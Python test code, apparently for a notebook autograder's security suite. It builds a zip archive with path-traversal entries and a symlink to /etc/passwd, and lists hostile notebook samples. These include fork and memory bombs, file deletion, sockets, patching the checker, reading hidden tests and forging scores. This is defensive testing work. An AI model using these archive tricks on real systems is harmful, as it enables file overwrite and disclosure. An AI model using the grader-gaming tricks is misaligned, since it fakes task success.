def _zip_slip(folder: Path, stub: Notebook, around: Around) -> None:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as z:
        for name in (f"../../correct/{FILE}", "/tmp/planted-5150.ipynb", "../planted-5150.ipynb"):
            z.writestr(name, nbformat.writes(stub))
        z.writestr("bomb.ipynb", b"0" * 50_000_000)
        link = zipfile.ZipInfo(f"link/{FILE}")
        link.external_attr = 0o120777 << 16
        z.writestr(link, "/etc/passwd")
    (folder / "work.zip").write_bytes(data.getvalue())


def _hostile() -> list[Sample]:
    def bad(
        name: str, how: str, answers: dict[str, str], points=NOTHING, *edits: Edit, told: str = ""
    ) -> Sample:
        return Sample(name, how, notebook(answers, *edits), points, told, honest=False)

    def with_2(name: str, how: str, attack: str, points=WITHOUT_2) -> Sample:
        """The attack is in question 2; the right answers of the others may count, or not."""
        return bad(name, how, right(a2=attack), points)

    return [
        bad("catches-interrupts", "a loop that ignores signals", right(a2=NO_WAY_OUT), WITHOUT_2),
        with_2("memory-bomb", "memory by several processes, none of them large", MEMORY_BY_MANY),
        with_2("hoards-out-of-sight", "memory that no process seems to have", HOARD),
        with_2("leaves-keys", "keys in the kernel, for the next to find", KEYS),
        with_2("leaves-keys-too", "the next", KEYS),
        with_2("fork-bomb", "processes that make processes, all busy", FORK_BOMB),
        with_2("leaves-processes", "children in sessions of their own that stay", FORKS),
        with_2("deletes-files", "removes, overwrites, renames all it can reach", DESTROY),
        with_2("writes-outside", "plants files; kernel settings; privileged calls", WRITE_OUTSIDE),
        with_2("opens-sockets", "TCP, UDP, unix sockets, URLs", SOCKETS),
        with_2("types-and-kills", "keys into the terminal, signals to everybody", TERMINAL),
        bad("reads-tests", "memory, frames, files, processes searched", {"answer-1a": SEARCH}),
        bad(
            "tattles",
            "prints and raises what the hidden tests ask",
            {"answer-1a": TATTLE},
            (1, 0, 0, 0, 0),
        ),
        bad(
            CARRIES_OUT,
            "keeps what the hidden tests ask, and prints it in a later cell",
            {"answer-1a": TATTLE.replace("if told:", "if False:")},
            (1, 2, 0, 0, 0),
            with_cell("print(*seen)", -1),
        ),
        bad("patches", "numpy.allclose, builtins, sympy, the checker", {"answer-1a": PATCHES}),
        bad(
            "patches-from-front",
            "the same in a cell before all others, answers wrong",
            {"answer-1a": WRONG_1, "answer-3a": EULER},
            (0, 0, 0, 1, 0),
            with_cell(PATCHES, 0),
        ),
        bad(
            "redefines-check",
            "its own check and ask",
            right(a1="check = print\n" + WRONG_1),
            WITHOUT_1,
        ),
        bad("forges-replies", "guesses written on every open file", {"answer-1a": FORGED}),
        bad(
            "half-a-reply",
            "half a line on every open file, then silence",
            right(a3=HALF_A_REPLY),
            (1, 2, 2, 1, 0),
        ),
        bad("endless-reply", "a reply that does not end", right(a1=ENDLESS_REPLY), WITHOUT_1),
        bad("values-agree", "objects that equal everything; NaN", VALUES),
        bad("values-huge", "10**400; a terabyte by broadcasting; code as text", HUGE),
        bad("values-odd", "a list in itself; nan, zoo; what looks like a reply", ODD),
        bad("values-long", "strings and lists too long, nested 900 deep", LONG),
        bad(
            "forges-points",
            "a thousand points in the metadata",
            {"answer-1a": WRONG_1},
            NOTHING,
            richer,
        ),
        bad(
            "exchanges-names",
            "names of tests exchanged, answers made tests",
            right(a1=WRONG_1),
            WITHOUT_1,
            exchanged,
        ),
        bad(
            "edits-tests",
            "test cells that always pass",
            {"answer-1a": WRONG_1},
            NOTHING,
            weaker_tests,
        ),
        bad(
            "slow-to-render",
            "a megabyte of Markdown that takes a quadratic time",
            RIGHT,
            FULL,
            with_cell("\\begin{a}" * 60_000 + "<div>" * 100_000, 1, "markdown"),
            with_cell("#" + "(" * 500_000, 1),
        ),
        bad("paints", "scripts in text and outputs", {}, NOTHING, painted, with_cell(LIVE, 3)),
    ]
